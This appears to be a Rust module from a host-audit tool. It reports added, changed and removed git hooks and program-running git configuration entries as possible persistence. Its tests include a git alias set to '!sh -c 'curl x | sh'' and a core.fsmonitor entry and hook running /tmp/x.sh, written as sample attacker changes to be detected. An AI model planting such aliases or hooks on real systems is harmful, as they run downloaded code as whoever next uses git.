//! The git part of the comparison: the hooks of every repository, and the entries of its
//! configuration (and of the global ones) that run programs. Either runs as whoever next uses
//! git there, often root; inside the scope as much as anywhere.

use super::files::state_changes;
use super::payloads::{runs, runs_in};
use super::{Change, Footprint, Report, delta};
use crate::audit::surface::{FileState, Surface, kind};

/// Whether `config` is a global git configuration file (`/etc/gitconfig`, `~/.gitconfig`,
/// `~/.config/git/config`) rather than a repository's own.
fn global(config: &str) -> bool {
    config.ends_with("/gitconfig")
        || config.ends_with("/.gitconfig")
        || config.ends_with("/.config/git/config")
}

/// Whether `config` names git's templates directory (its hooks are copied into every repository
/// made from then on) rather than a configuration file.
fn templates(config: &str) -> bool {
    config.ends_with("/git-core/templates")
}

/// How the report names the owner of `config`: `git repository DIR` (the working tree, or a
/// bare repository's git directory), git's templates, or the configuration file itself (a
/// global one, or one another includes).
fn source(config: &str) -> String {
    if global(config) {
        return config.to_owned();
    }
    if templates(config) {
        return format!("git templates {config} (copied into new repositories)");
    }
    if let Some(tree) = config.strip_suffix("/.git/config") {
        return format!(
            "git repository {}",
            if tree.is_empty() { "/" } else { tree }
        );
    }
    match config.strip_suffix("/config") {
        Some(git_dir) => format!("git repository {git_dir}"),
        None => config.to_owned(),
    }
}

/// `` `NAME` `` for a hook in the repository's own hooks directory, else its path and why git
/// runs it from there.
fn hook_name(config: &str, path: &str) -> String {
    let own_dir = if templates(config) {
        Some(format!("{config}/hooks/"))
    } else {
        config
            .strip_suffix("config")
            .map(|git_dir| format!("{git_dir}hooks/"))
    };
    match own_dir.as_deref().and_then(|dir| path.strip_prefix(dir)) {
        Some(name) if !global(config) && !name.contains('/') => format!("`{name}`"),
        _ => format!("{path} (core.hooksPath)"),
    }
}

/// `was` / `now` values of an entry: each in backquotes, one per line as set.
fn quoted(values: &str) -> String {
    values
        .lines()
        .map(|v| format!("`{v}`"))
        .collect::<Vec<_>>()
        .join(", ")
}

fn under(path: &str, dir: &str) -> bool {
    path.strip_prefix(dir)
        .is_some_and(|rest| rest.starts_with('/'))
}

impl Report {
    pub(super) fn git(&mut self, before: &Surface, now: &Surface, own: &Footprint) {
        for (key, b, a) in delta(before.kind(kind::GIT_HOOK), now.kind(kind::GIT_HOOK)) {
            let Some((config, path)) = key.split_once('\t') else {
                continue;
            };
            if own.owns_path(config) || own.owns_path(path) {
                continue;
            }
            let (source, hook) = (source(config), hook_name(config, path));
            let with_payloads = |what: String| match runs(now, path) {
                Some(runs) => format!("{what}; {runs}"),
                None => what,
            };
            match (b.and_then(FileState::parse), a.and_then(FileState::parse)) {
                (None, Some(state)) => {
                    let what = match state {
                        FileState::File { mode, content, .. } => {
                            format!("mode {mode:o}, {content}")
                        }
                        FileState::Link { target } => format!("→ {target}"),
                        FileState::Dir { .. } => continue,
                    };
                    self.push(
                        "git",
                        path,
                        Change::Added,
                        format!("{source}: new hook {hook} ({})", with_payloads(what)),
                    );
                }
                (Some(_), None) => self.push(
                    "git",
                    path,
                    Change::Removed,
                    format!("{source}: hook {hook} removed"),
                ),
                (Some(b), Some(a)) => {
                    // Inside the scope, the group bits are the grant's ACL mask (as for the
                    // CMS directory's files).
                    let in_scope = before.scope.as_deref().is_some_and(|s| under(path, s));
                    let mut changes = state_changes(&b, &a, in_scope);
                    if changes.is_empty() {
                        continue;
                    }
                    if let (
                        FileState::File { content: c1, .. },
                        FileState::File { content: c2, .. },
                    ) = (&b, &a)
                        && c1 != c2
                    {
                        changes.push(format!("now {c2}"));
                    }
                    self.push(
                        "git",
                        path,
                        Change::Changed,
                        format!(
                            "{source}: hook {hook} changed ({})",
                            with_payloads(changes.join(", "))
                        ),
                    );
                }
                (None, None) => {}
            }
        }
        for (key, b, a) in delta(before.kind(kind::GIT_CONFIG), now.kind(kind::GIT_CONFIG)) {
            let Some((config, entry)) = key.split_once('\t') else {
                continue;
            };
            if own.owns_path(config) {
                continue;
            }
            let source = source(config);
            let (change, text) = match (b, a) {
                (None, Some(a)) => (
                    Change::Added,
                    format!("{source}: `{entry}` set to {}", quoted(a)),
                ),
                (Some(b), None) => (
                    Change::Removed,
                    format!("{source}: `{entry}` removed (was {})", quoted(b)),
                ),
                (Some(b), Some(a)) => (
                    Change::Changed,
                    format!("{source}: `{entry}` changed: {} → {}", quoted(b), quoted(a)),
                ),
                (None, None) => continue,
            };
            let text = match a.and_then(|a| runs_in(now, config, a)) {
                Some(runs) => format!("{text} ({runs})"),
                None => text,
            };
            self.push("git", config, change, text);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::drift::compare;

    fn surface(items: &[(&str, &str, &str)]) -> Surface {
        Surface::of(items)
    }

    fn texts(before: &Surface, after: &Surface, own: &Footprint) -> Vec<String> {
        compare(before, after, own)
            .persistence
            .iter()
            .map(|i| i.text.clone())
            .collect()
    }

    #[test]
    fn repositories_and_global_files_are_named() {
        assert_eq!(
            source("/var/www/cms/.git/config"),
            "git repository /var/www/cms"
        );
        assert_eq!(
            source("/srv/git/app.git/config"),
            "git repository /srv/git/app.git"
        );
        assert_eq!(source("/etc/gitconfig"), "/etc/gitconfig");
        assert_eq!(source("/root/.gitconfig"), "/root/.gitconfig");
        assert_eq!(
            source("/home/a/.config/git/config"),
            "/home/a/.config/git/config"
        );
        assert_eq!(
            hook_name("/srv/app/.git/config", "/srv/app/.git/hooks/post-merge"),
            "`post-merge`"
        );
        assert_eq!(
            hook_name("/srv/app/.git/config", "/opt/hooks/post-merge"),
            "/opt/hooks/post-merge (core.hooksPath)"
        );
        assert_eq!(
            hook_name("/etc/gitconfig", "/etc/hooks/x"),
            "/etc/hooks/x (core.hooksPath)"
        );
        let templates = "/usr/share/git-core/templates";
        assert_eq!(
            source(templates),
            "git templates /usr/share/git-core/templates (copied into new repositories)"
        );
        assert_eq!(
            hook_name(
                templates,
                "/usr/share/git-core/templates/hooks/post-checkout"
            ),
            "`post-checkout`"
        );
        assert_eq!(source("/etc/git/extra.inc"), "/etc/git/extra.inc");
    }

    #[test]
    fn new_changed_and_removed_hooks_and_entries_are_named_with_the_repository() {
        let cms = "/var/www/cms/.git/config";
        let app = "/srv/app/.git/config";
        let mut before = surface(&[
            (
                kind::GIT_HOOK,
                &format!("{cms}\t/var/www/cms/.git/hooks/pre-commit"),
                "f 755 33:33 20 sha256:11",
            ),
            (
                kind::GIT_HOOK,
                &format!("{app}\t/srv/app/.git/hooks/post-merge"),
                "f 755 0:0 20 sha256:22",
            ),
            (
                kind::GIT_HOOK,
                &format!("{app}\t/srv/app/.git/hooks/old"),
                "f 755 0:0 1 sha256:33",
            ),
            (kind::GIT_CONFIG, &format!("{app}\tcore.pager"), "less"),
            (kind::GIT_CONFIG, "/etc/gitconfig\talias.st", "!git status"),
            (kind::GIT_CONFIG, "/etc/gitconfig\tinclude.path", "/etc/a"),
        ]);
        before.scope = Some("/var/www/cms".to_owned());
        let mut after = surface(&[
            // The grant's ACL mask in the group bits: not a change.
            (
                kind::GIT_HOOK,
                &format!("{cms}\t/var/www/cms/.git/hooks/pre-commit"),
                "f 775 33:33 20 sha256:11",
            ),
            (
                kind::GIT_HOOK,
                &format!("{cms}\t/var/www/cms/.git/hooks/post-checkout"),
                "f 755 1003:1003 30 sha256:44",
            ),
            (
                kind::GIT_HOOK,
                &format!("{app}\t/srv/app/.git/hooks/post-merge"),
                "f 755 0:0 25 sha256:55",
            ),
            (
                kind::GIT_CONFIG,
                &format!("{cms}\tcore.fsmonitor"),
                "/tmp/x.sh",
            ),
            (kind::PAYLOAD, &format!("{cms}\t/tmp/x.sh"), "sha256:66"),
            (
                kind::PAYLOAD,
                "/var/www/cms/.git/hooks/post-checkout\t/tmp/x.sh",
                "sha256:66",
            ),
            (
                kind::GIT_CONFIG,
                "/etc/gitconfig\talias.st",
                "!sh -c 'curl x | sh'",
            ),
            (
                kind::GIT_CONFIG,
                "/etc/gitconfig\tinclude.path",
                "/etc/a\n/tmp/b",
            ),
        ]);
        after.scope = before.scope.clone();
        let t = texts(&before, &after, &Footprint::default());
        assert_eq!(
            t,
            [
                "git repository /srv/app: hook `old` removed",
                "git repository /srv/app: hook `post-merge` changed (content changed, 20 → 25 bytes, now sha256:55)",
                "git repository /var/www/cms: new hook `post-checkout` (mode 755, sha256:44; runs /tmp/x.sh sha256:66)",
                "/etc/gitconfig: `alias.st` changed: `!git status` → `!sh -c 'curl x | sh'`",
                "/etc/gitconfig: `include.path` changed: `/etc/a` → `/etc/a`, `/tmp/b`",
                "git repository /srv/app: `core.pager` removed (was `less`)",
                "git repository /var/www/cms: `core.fsmonitor` set to `/tmp/x.sh` (runs /tmp/x.sh sha256:66)",
            ]
        );
        let drift = compare(&before, &after, &Footprint::default());
        assert!(drift.persistence.iter().all(|i| i.category == "git"));
        assert_eq!(
            drift.persistence[2].path,
            "/var/www/cms/.git/hooks/post-checkout"
        );
        assert_eq!(drift.persistence[6].path, cms);

        // The grant's own repositories (in its home) are its own.
        let mut own = Footprint::default();
        own.tree("/srv/app");
        own.path("/etc/gitconfig");
        own.path(cms);
        own.path("/var/www/cms/.git/hooks/post-checkout");
        assert!(texts(&before, &after, &own).is_empty());
    }
}
